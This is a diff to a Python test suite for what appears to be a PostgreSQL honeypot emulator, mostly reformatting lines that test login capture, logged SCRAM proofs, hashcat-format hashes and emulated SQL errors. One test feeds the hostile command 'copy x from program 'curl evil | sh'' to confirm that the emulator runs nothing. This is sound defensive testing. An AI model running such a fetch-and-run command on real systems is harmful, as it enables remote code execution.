@@ -87,7 +87,9 @@ class LoginTest(unittest.IsolatedAsyncioTestCase):
             self.assertEqual(kind, b"E")
             self.assertIn(b'C28P01\0Mpassword authentication failed for user "postgres"\0Fauth.c', body)
             (auth,) = served.events("auth")
-            self.assertEqual((auth["username"], auth["client"], auth["accepted"]), ("postgres", "psql", "false"))
+            self.assertEqual(
+                (auth["username"], auth["client"], auth["accepted"]), ("postgres", "psql", "false")
+            )
             kind, user, rest = auth["hashcat"].split("$")[1], *auth["hashcat"].split("$")[2].split("*", 1)
             salt, digest = rest.split("*")
             self.assertEqual((kind, user), ("postgres", "postgres"))
@@ -114,7 +116,9 @@ class LoginTest(unittest.IsolatedAsyncioTestCase):
                 frontend.writer.write(startup(user="app", database="postgres"))
                 self.assertEqual(await frontend.read(), (b"R", b"\0\0\0\x0aSCRAM-SHA-256\0\0"))
                 bare = "n=,r=abc"
-                frontend.send(b"p", b"SCRAM-SHA-256\0" + struct.pack(">I", len(bare) + 3) + b"n,," + bare.encode())
+                frontend.send(
+                    b"p", b"SCRAM-SHA-256\0" + struct.pack(">I", len(bare) + 3) + b"n,," + bare.encode()
+                )
                 first = (await frontend.read())[1][4:].decode()
                 nonce, salt, count = (part[2:] for part in first.split(","))
                 salted = hashlib.pbkdf2_hmac("sha256", password.encode(), base64.b64decode(salt), int(count))
@@ -131,7 +135,7 @@ class LoginTest(unittest.IsolatedAsyncioTestCase):
                 else:
                     self.assertEqual(kind, b"E")
             self.assertEqual([one["accepted"] for one in served.events("auth")], ["true", "false"])
-            self.assertIn(f"{bare},{first},{without}*", served.events("auth")[1]["scram"])
+            self.assertIn(f"{bare},{first},{without}*", served.events("auth")[1]["proof"])
 
     async def test_a_broken_scram_is_malformed_and_a_try(self) -> None:
         async with Served("postgres", OPTIONS | {"auth": "scram-sha-256"}) as served:
@@ -150,7 +154,9 @@ class LoginTest(unittest.IsolatedAsyncioTestCase):
             frontend.writer.write(struct.pack(">II", 8, 80877103))
             self.assertEqual(await frontend.reader.readexactly(1), b"S")
             await frontend.writer.start_tls(context)
-            self.assertEqual((await frontend.login_md5("app", "secret", database="postgres")), (b"R", b"\0\0\0\0"))
+            self.assertEqual(
+                (await frontend.login_md5("app", "secret", database="postgres")), (b"R", b"\0\0\0\0")
+            )
             frontend.writer.close()
         async with Served("postgres", OPTIONS, distro="rocky9") as served:
             self.assertEqual(await served.visit(struct.pack(">II", 8, 80877103)), b"N")
@@ -192,7 +198,10 @@ class SessionTest(unittest.IsolatedAsyncioTestCase):
             frontend.send(b"E", b"\0\0\0\0\0")
             frontend.send(b"S", b"")
             self.assertEqual([kind for kind, _ in await frontend.until_ready()], [b"E", b"Z"])
-            self.assertEqual([one["command"] for one in served.events("command")], ["select name from api_keys where id = '1'"])
+            self.assertEqual(
+                [one["command"] for one in served.events("command")],
+                ["select name from api_keys where id = '1'"],
+            )
 
     def client(self, seed: int = 1, username: str = "app") -> Client:
         catalogue = Catalogue(identity(seed), release_of("debian"))
@@ -208,7 +217,7 @@ class SessionTest(unittest.IsolatedAsyncioTestCase):
             "select * from nope": ("42P01", 'relation "nope" does not exist'),
             "select * from a.b": ("42P01", 'relation "a.b" does not exist'),
             "select f(1)": ("42883", "function f(unknown) does not exist"),
-            "select 'a": ("42601", "syntax error at or near \"'a\""),
+            "select 'a": ("42601", 'syntax error at or near "\'a"'),
             "bogus": ("42601", 'syntax error at or near "bogus"'),
             "show nothing": ("42704", 'unrecognized configuration parameter "nothing"'),
             "select * from pg_shadow": ("42501", "permission denied for view pg_shadow"),
@@ -224,9 +233,13 @@ class SessionTest(unittest.IsolatedAsyncioTestCase):
     def test_postgres_may_do_as_if_and_runs_no_program(self) -> None:
         client = self.client(username="postgres")
         self.assertEqual(client.run("create table x(a int, b text)"), [Result("CREATE TABLE")])
-        self.assertEqual([column.name for column in client.run("select * from x")[0].rows.columns], ["a", "b"])
+        self.assertEqual(
+            [column.name for column in client.run("select * from x")[0].rows.columns], ["a", "b"]
+        )
         (problem,) = client.run("copy x from program 'curl evil | sh'")
-        self.assertEqual((problem.text, problem.detail), ('program "curl evil | sh" failed', "command not found"))
+        self.assertEqual(
+            (problem.text, problem.detail), ('program "curl evil | sh" failed', "command not found")
+        )
 
     def test_an_error_in_a_transaction_lasts_until_its_end(self) -> None:
         client = self.client()
@@ -247,10 +260,32 @@ class SessionTest(unittest.IsolatedAsyncioTestCase):
         draw = random.Random(5432)
         client = self.client(username="postgres")
         words = "select show from where users * , ( ) . ; ' \" :: = like '%a%' 1 copy limit order by count create table".split()
-        words += ["pg_catalog.pg_class", "é", "\0", "\udcff", "drop", "9" * 30, "begin", "$1", "null", "as", "and", "'^(a)$'"]
+        words += [
+            "pg_catalog.pg_class",
+            "é",
+            "\0",
+            "\udcff",
+            "drop",
+            "9" * 30,
+            "begin",
+            "$1",
+            "null",
+            "as",
+            "and",
+            "'^(a)$'",
+        ]
         for _ in range(5000):
-            client.run(draw.choice(("", "select ", "create ")) + " ".join(draw.choices(words, k=draw.randrange(9))))
-        for text in ("/*" * 8000, "'" * 8001, "(" * 16000, "select " + "," * 9000, ";" * 16000, "select 1::" + "a." * 7000):
+            client.run(
+                draw.choice(("", "select ", "create ")) + " ".join(draw.choices(words, k=draw.randrange(9)))
+            )
+        for text in (
+            "/*" * 8000,
+            "'" * 8001,
+            "(" * 16000,
+            "select " + "," * 9000,
+            ";" * 16000,
+            "select 1::" + "a." * 7000,
+        ):
             client.run(text)
 
 
